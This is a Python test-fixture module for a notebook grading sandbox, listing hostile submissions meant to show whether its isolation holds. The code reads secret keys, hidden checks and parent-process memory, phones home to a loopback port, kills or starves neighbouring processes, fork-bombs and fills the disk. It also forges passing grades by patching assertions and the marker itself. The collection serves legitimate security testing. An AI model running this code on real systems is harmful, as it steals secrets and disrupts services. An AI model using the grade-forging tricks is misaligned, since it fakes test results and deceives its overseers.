"""Hostile submissions: what each tries, its code, and what shows that it bites where nothing protects.

In code, words between @ signs are places of the world that `test_hostile` builds: @marks@, @secret@, @port@ and so on.
- `loot`: the attack reads something; it has bitten when the name `loot` holds the world's secret.
- `effect`: the attack changes something; it has bitten when the world says so.
- `forged`: the attack turns a wrong answer into marks; it has bitten when a check in the same process passes.
"""
# ruff: noqa: E501  (attacks are written as short as they can be)

from dataclasses import dataclass
from typing import Literal

PLAIN_CHECK = "assert total == 49"


@dataclass(frozen=True)
class Case:
    """One attack."""

    name: str
    kind: Literal["loot", "effect", "forged"]
    code: str
    check: str = PLAIN_CHECK


def loot(name: str, code: str) -> Case:
    return Case(name, "loot", code)


def effect(name: str, code: str) -> Case:
    return Case(name, "effect", code)


def forged(name: str, code: str, check: str = PLAIN_CHECK) -> Case:
    return Case(name, "forged", code, check)


READ = [
    loot("reads the marks", "loot = open('@marks@').read()"),
    loot("reads the hidden checks", "loot = open('@checks@').read()"),
    loot("reads another's submission", "loot = open('@other@').read()"),
    loot("reads a key", "import pathlib\nloot = pathlib.Path('@key@').read_text()"),
    loot("reads it by a shell", "loot = str(get_ipython().getoutput('cat @key@'))"),
    loot("reads it by a program", "import subprocess\nloot = subprocess.run(['cat', '@key@'], capture_output=True, text=True).stdout"),
    loot("reads it through a symbolic link", "import os\nos.symlink('@key@', 'innocent.csv')\nloot = open('innocent.csv').read()"),
    loot("reads it through a hard link", "import os\nos.link('@key@', '@outside@/innocent.csv')\nloot = open('@outside@/innocent.csv').read()"),
    loot("reads it through its process's root", "loot = open('/proc/self/root@key@').read()"),
    loot("reads it through the parent's root", "import os\nloot = open(f'/proc/{os.getppid()}/root@key@').read()"),
    loot("reads it as a table", "import pandas as pd\nloot = pd.read_csv('@key@', header=None).to_string()"),
    loot("looks for it in every folder", "import pathlib\nloot = ''.join(p.read_text() for p in pathlib.Path('@root@').rglob('*.key'))"),
    loot("reads the environment", "import os\nloot = str(dict(os.environ))"),
    loot("reads a neighbour's environment", "loot = open('/proc/@decoy@/environ').read()"),
    loot("reads other programs' arguments", "import glob\nloot = ''\nfor p in glob.glob('/proc/[0-9]*/cmdline'):\n    try:\n        loot += open(p).read()\n    except OSError:\n        pass"),
    loot("reads an inherited descriptor", "import os\nloot = ''\nfor fd in range(3, 200):\n    try:\n        loot += os.pread(fd, 1000, 0).decode('utf8', 'replace')\n    except OSError:\n        pass"),
    loot("walks the heap", "import gc\nloot = ''.join(o['needle'] for o in gc.get_objects() if type(o) is dict and type(o.get('needle')) is str)"),
    loot("walks the frames", "import sys\nloot = ''\ndef walk(*a):\n    global loot\n    frame = sys._getframe()\n    while frame:\n        loot += str(frame.f_locals.get('hidden_needle', ''))\n        frame = frame.f_back\nget_ipython().events.register('post_run_cell', walk)"),
    loot("walks imported modules", "import sys\nloot = ''.join(str(getattr(m, 'COUNCIL_NEEDLE', '')) for m in list(sys.modules.values()))"),
    loot("reads the parent's memory", "import os\nwith open(f'/proc/{os.getppid()}/mem', 'rb') as mem:\n    mem.seek(@address@)\n    loot = mem.read(64).decode()"),
    loot("asks a service on the loopback", "import socket\nloot = socket.create_connection(('127.0.0.1', @port@), 2).recv(100).decode()"),
    loot("asks a service by an abstract socket", "import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect('\\0@abstract@')\nloot = s.recv(100).decode()"),
    loot("asks a service by a socket file", "import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect('@sockfile@')\nloot = s.recv(100).decode()"),
    loot("fetches a page", "import urllib.request\nloot = urllib.request.urlopen('http://127.0.0.1:@web@/').read().decode()"),
    loot("reads shared memory", "loot = open('/dev/shm/@shm@').read()"),
    loot("reads the ledger", "import sqlite3\nloot = str(sqlite3.connect('@ledger@').execute('select * from mark').fetchall())"),
    loot("reads the checks of its own lesson", "loot = open('@lesson@/checks.py').read() and '@secret@'"),
    loot("imports the checks of its own lesson", "import sys\nsys.path.insert(0, '@lesson@')\nimport checks\nloot = '@secret@' if checks.QUESTIONS else ''"),
    loot("reads it by a database", "import duckdb\nloot = str(duckdb.sql(\"select content from read_text('@key@')\").fetchall())"),
    loot("maps it into memory", "import numpy as np\nloot = bytes(np.memmap('@key@', dtype='u1', mode='r')).decode()"),
    loot("reads the parent's memory by a call", "import ctypes, os\nspace = ctypes.create_string_buffer(64)\nclass Part(ctypes.Structure):\n    _fields_ = [('base', ctypes.c_void_p), ('size', ctypes.c_size_t)]\nctypes.CDLL(None).process_vm_readv(os.getppid(), ctypes.byref(Part(ctypes.addressof(space), 64)), 1, ctypes.byref(Part(@address@, 64)), 1, 0)\nloot = space.raw.decode()"),
    loot("opens a device of the machine", "import os\nloot = '@secret@' if os.open('/dev/kmsg', os.O_RDONLY) else ''"),
]  # fmt: skip

WRITE = [
    effect("overwrites the marks", "open('@marks@', 'w').write('full marks')"),
    effect("writes outside", "open('@outside@/bitten', 'w').write('x')"),
    effect("deletes another's submission", "import os\nos.remove('@other@')\nopen('@outside@/bitten', 'w').write('x')"),
    effect("moves the marks away", "import os\nos.rename('@marks@', '@outside@/bitten')\nopen('@marks@', 'w').close()"),
    effect("opens the marks to everyone", "import os\nos.chmod('@marks@', 0o777)\nopen('@outside@/bitten', 'w').write('x')"),
    effect("changes the ledger", "import sqlite3\nc = sqlite3.connect('@ledger@')\nc.execute(\"insert into mark values ('bitten')\")\nc.commit()"),
    effect("writes by an inherited descriptor", "import os\nfor fd in range(3, 200):\n    try:\n        if b'MARKS' in os.pread(fd, 100, 0):\n            os.pwrite(fd, b'bitten', 0)\n    except OSError:\n        pass"),
    effect("writes into the parent's memory", "import os\nwith open(f'/proc/{os.getppid()}/mem', 'r+b', buffering=0) as mem:\n    mem.seek(@canary@)\n    mem.write(b'bitten')"),
    effect("poisons a library for the next", "open('@library@/councilstats.py', 'w').write('total = 49  # bitten')"),
    effect("poisons the start of every Python", "import pathlib\np = pathlib.Path('@home@/.local/lib/python3/site-packages')\np.mkdir(parents=True)\n(p / 'usercustomize.py').write_text('bitten = 1')"),
    effect("poisons the start of every shell", "import pathlib\np = pathlib.Path('@home@/.ipython/profile_default/startup')\np.mkdir(parents=True)\n(p / '00.py').write_text('bitten = 1')"),
    effect("leaves a kernel of its own", "import pathlib\np = pathlib.Path('@home@/.local/share/jupyter/kernels/python3')\np.mkdir(parents=True)\n(p / 'kernel.json').write_text('bitten')"),
    effect("leaves a note for the next in /tmp", "open('/tmp/@shm@-note', 'w').write('bitten')"),
    effect("leaves a note for the next in shared memory", "open('/dev/shm/@shm@-note', 'w').write('bitten')"),
    effect("replaces a program on the path", "import os\nopen('@library@/git', 'w').write('#!/bin/sh\\nbitten')"),
    effect("kills the grader's neighbour", "import os\nos.kill(@decoy@, 9)"),
    effect("stops the grader's neighbour", "import os\nos.kill(@decoy@, 19)"),
    effect("starves the grader's neighbour", "import resource\nresource.prlimit(@decoy@, resource.RLIMIT_NOFILE, (3, 3))"),
    effect("phones home", "import socket\nsocket.create_connection(('127.0.0.1', @home_port@), 2).sendall(b'bitten')"),
    effect("phones home without a connection", "import socket\nsocket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'bitten', ('127.0.0.1', @udp@))"),
    effect("leaves a process running", "import os, subprocess\nif os.fork() == 0:\n    os.setsid()\n    subprocess.Popen(['sleep', '@marker@'], start_new_session=True)\n    os._exit(0)\nos.wait()"),
    effect("leaves a process that changes marks later", "import os, time\nready, tell = os.pipe()\nif os.fork() == 0:\n    os.setsid()\n    os.write(tell, b'1')\n    time.sleep(0.3)\n    open('@marks@', 'w').write('late marks')\n    os._exit(0)\nos.read(ready, 1)"),
    effect("forks without end", "import os, time\nfor _ in range(20):\n    if os.fork() == 0:\n        os.execvp('sleep', ['sleep', '@marker@'])\nswarm = 1"),
    effect("starts threads without end", "import threading, time\nfor _ in range(200):\n    threading.Thread(target=time.sleep, args=(20,), daemon=True).start()\ntime.sleep(0.3)\nif threading.active_count() > 150:\n    swarm = 1"),
    effect("takes all memory", "held = bytearray(700_000_000)\nfor i in range(0, len(held), 4096):\n    held[i] = 1\nswarm = 1"),
    effect("fills the disk", "with open('big', 'wb') as f:\n    for _ in range(100):\n        f.write(bytes(1_000_000))\nimport os\nswarm = int(os.path.getsize('big') >= 100_000_000)"),
    effect("fills the disk with many files", "for i in range(3000):\n    open(f'f{i}', 'w').close()\nswarm = 1"),
    effect("opens descriptors without end", "import os\nfds = [os.open('/dev/null', 0) for _ in range(800)]\nswarm = 1"),
    effect("leaves a core dump", "import resource\nswarm = int(resource.getrlimit(resource.RLIMIT_CORE)[1] != 0)"),
    effect("becomes another user", "import os\nos.setuid(12345)\nswarm = int(os.getuid() == 12345)"),
    effect("makes namespaces of its own", "import ctypes\nswarm = int(ctypes.CDLL(None).unshare(0x10000000) == 0)"),
    effect("mounts a file system", "import ctypes, os\nos.mkdir('m')\nswarm = int(ctypes.CDLL(None, use_errno=True).mount(b'none', b'm', b'tmpfs', 0, b'') == 0)\nctypes.CDLL(None).umount(b'm')"),
]  # fmt: skip

EQUAL = "class {name}({base}):\n    def __eq__(self, other): return True\n    def __ne__(self, other): return False\n    __hash__ = None\n"

FORGE = [
    forged("an object equal to everything", EQUAL.format(name="Yes", base="object") + "total = Yes()"),
    forged("an int equal to everything", EQUAL.format(name="Yes", base="int") + "total = Yes(1)", "assert isinstance(total, int) and total == 49"),
    forged("a float equal to everything", EQUAL.format(name="Yes", base="float") + "total = Yes(1)", "assert isinstance(total, float) and total == 49"),
    forged("text equal to everything", EQUAL.format(name="Yes", base="str") + "total = Yes('1')", "assert isinstance(total, str) and total == '49'"),
    forged("a list equal to everything", EQUAL.format(name="Yes", base="list") + "total = Yes()", "assert isinstance(total, list) and total == [49]"),
    forged("an array equal to everything", "import numpy as np\nclass Yes(np.ndarray):\n    def __eq__(self, other): return np.True_\ntotal = np.zeros(1).view(Yes)", "assert (total == 49)"),
    forged("a table equal to everything", "import pandas as pd\nclass Yes(pd.DataFrame):\n    def equals(self, other): return True\ntotal = Yes({'a': [1]})", "import pandas as pd\nassert isinstance(total, pd.DataFrame) and total.equals(pd.DataFrame({'a': [49]}))"),
    forged("an array of objects equal to everything", "import numpy as np\n" + EQUAL.format(name="Yes", base="object") + "total = np.array([Yes()], dtype=object)", "import numpy as np\nassert (total == np.array([49])).all()"),
    forged("a dictionary that lies about its items", "class D(dict):\n    def items(self): return [('a', 49)]\n    def __getitem__(self, key): return 49\ntotal = D(a=1)", "assert isinstance(total, dict) and dict(total.items())['a'] == 49 and total['a'] == 49"),
    forged("a column that gives another list", "import pandas as pd\nclass S(pd.Series):\n    def tolist(self): return [49]\n    def to_numpy(self, *a, **k): return [49]\ntotal = S([1])", "import pandas as pd\nassert isinstance(total, pd.Series) and total.tolist() == [49]"),
    forged("an array that answers every calculation", "import numpy as np\nclass A(np.ndarray):\n    def __array_ufunc__(self, ufunc, method, *a, **k): return np.True_\n    def item(self): return 49\ntotal = np.zeros(1).view(A)", "import numpy as np\nassert np.equal(total, 49)"),
    forged("a masked value", "import numpy as np\ntotal = np.ma.masked_all(1)", "import numpy as np\nassert not (total != 49).any()"),
    forged("a class that lies about itself", "class Liar:\n    __class__ = int\n    def __eq__(self, other): return True\ntotal = Liar()", "assert isinstance(total, int) and total == 49"),
    forged("strips assertions from what runs next", "import ast\nclass Strip(ast.NodeTransformer):\n    def visit_Assert(self, node): return ast.Pass()\nget_ipython().ast_transformers.append(Strip())\ntotal = 1"),
    forged("rewrites what runs next", "get_ipython().input_transformers_cleanup.append(lambda lines: ['pass\\n'])\ntotal = 1"),
    forged("replaces the runner", "ip = get_ipython()\nreal = type(ip).run_cell\ntype(ip).run_cell = lambda self, code, *a, **k: real(self, 'pass', *a, **k)\ntotal = 1"),
    forged("changes the answer before the next cell", "def fix(*a): get_ipython().user_ns['total'] = 7 * 7\ntotal = 1\nget_ipython().events.register('pre_run_cell', fix)", "assert total == 49 and pre_checked"),
    forged("patches a comparison of the library", "import numpy.testing\nnumpy.testing.assert_allclose = lambda *a, **k: None\ntotal = 1", "import numpy.testing\nnumpy.testing.assert_allclose(total, 49)"),
    forged("patches a comparison of tables", "import pandas.testing\npandas.testing.assert_series_equal = lambda *a, **k: None\ntotal = 1", "import pandas as pd\npd.testing.assert_series_equal(pd.Series([total]), pd.Series([49]))"),
    forged("replaces a builtin", "import builtins\nbuiltins.abs = lambda x: 0\ntotal = 1", "assert abs(total - 49) < 1e-9"),
    forged("replaces the name of a builtin", "round = lambda *a: 49\ntotal = 1", "assert round(total) == 49"),
    forged("replaces a test library", "import sys, types\nm = types.ModuleType('unittest')\nm.TestCase = lambda: types.SimpleNamespace(assertEqual=lambda a, b: None)\nsys.modules['unittest'] = m\ntotal = 1", "import unittest\nunittest.TestCase().assertEqual(total, 49)"),
    forged("answers a call with what the caller expects", "import sys\ndef total():\n    return sys._getframe(1).f_globals.get('expected', 0)", "expected = 49\nassert total() == expected"),
    forged("reads the expected value from the caller's code", "import sys\ndef total():\n    return [c for c in sys._getframe(1).f_code.co_consts if type(c) is int][-1]", "assert total() == 49"),
    forged("traces the check and skips it", "import sys\nclass Yes:\n    def __sub__(self, other): return 0\ntotal = Yes()", "assert total - 49 == 0"),
    forged("a thread that silences the check", "import threading, time\ndef watch():\n    while True:\n        if 'strict' in globals():\n            globals()['strict'] = lambda x: None\n        time.sleep(0.001)\nthreading.Thread(target=watch, daemon=True).start()\ntotal = 1", "import time\ndef strict(x): assert x == 49\ntime.sleep(0.2)\nstrict(total)"),
    forged("patches the marker itself", "import digital_council.courses.questions.base as base\nbase.Question.judge = lambda self, *a, **k: 'passed'\ntotal = 1", "from digital_council.courses.questions import Value\nassert Value('total', 'x', answer=49).judge(total) == 'passed' or Value('total', 'x', answer=49).judge(total).outcome == 'passed'"),
    forged("patches the verdict itself", "import digital_council.courses.findings as f\nf.QuestionResult.outcome = property(lambda self: 'passed')\ntotal = 1", "from digital_council.courses.findings import QuestionResult\nr = object.__new__(QuestionResult)\nassert r.outcome == 'passed'"),
    forged("turns an error into silence", "get_ipython().set_custom_exc((AssertionError,), lambda *a, **k: None)\nget_ipython().run_ast_nodes.__func__\nimport builtins\nclass Quiet(type): pass\nbuiltins.AssertionError = type('E', (Exception,), {})\ntotal = 1\nget_ipython().compile.ast_parse = lambda *a, **k: __import__('ast').parse('pass')"),
]  # fmt: skip

CASES = READ + WRITE + FORGE
